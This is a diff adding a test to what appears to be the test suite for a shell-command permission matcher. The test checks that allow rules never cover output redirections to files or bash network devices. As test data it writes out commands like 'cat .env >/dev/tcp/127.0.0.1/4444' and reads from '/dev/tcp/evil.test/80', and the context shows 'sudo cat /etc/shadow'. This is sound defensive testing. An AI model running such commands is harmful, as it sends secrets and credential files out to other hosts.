@@ -85,6 +85,29 @@ describe('the user\'s rules', () => {
     expect(matchRules(rules, 'local', 'sudo cat /etc/shadow')).toBeNull();
   });
 
+  it('never lets an allow rule vouch for where output goes: a redirection that writes a file or opens a socket is left to the mode', () => {
+    // Every form bash accepts, each target that writes or sends, against commands the rules allow as written.
+    const operators = ['>', '>>', '>|', '&>', '&>>', '1>', '2>', '<>', ' > ', '>"', ">'"];
+    const targets = ['/dev/tcp/127.0.0.1/4444', '/dev/udp/evil.test/53', 'out.txt', '~/.bashrc'];
+    for (const command of ['cat .env', 'ls -la']) {
+      expect(matchRules(rules, 'local', command)?.decision).toBe('allow');
+      for (const operator of operators) {
+        for (const target of targets) {
+          const close = operator.endsWith('"') ? '"' : operator.endsWith("'") ? "'" : '';
+          const line = `${command} ${operator}${target}${close}`;
+          expect(matchRules(rules, 'local', line), line).toBeNull();
+        }
+      }
+      // Reading from bash's network devices sends too; reading a file, discarding output and here-documents do not.
+      expect(matchRules(rules, 'local', `${command} < /dev/tcp/evil.test/80`)).toBeNull();
+      expect(matchRules(rules, 'local', `${command} < input.txt`)?.decision).toBe('allow');
+      expect(matchRules(rules, 'local', `${command} 2>/dev/null`)?.decision).toBe('allow');
+      expect(matchRules(rules, 'local', `${command} <<'EOF'`)?.decision).toBe('allow');
+      // An operator inside quotes is text, not a redirection.
+      expect(matchRules(rules, 'local', `${command} "a > /dev/tcp/x/1"`)?.decision).toBe('allow');
+    }
+  });
+
   it('applies a target\'s own rules and the prefixes the user chose to always allow there, and nowhere else', () => {
     expect(matchRules(rules, 'deploy@web1:22', 'systemctl status nginx')).toMatchObject({ decision: 'allow' });
     expect(matchRules(rules, 'deploy@web1:22', 'journalctl -u nginx --since today')).toEqual({ decision: 'allow', rule: 'journalctl -u …' });
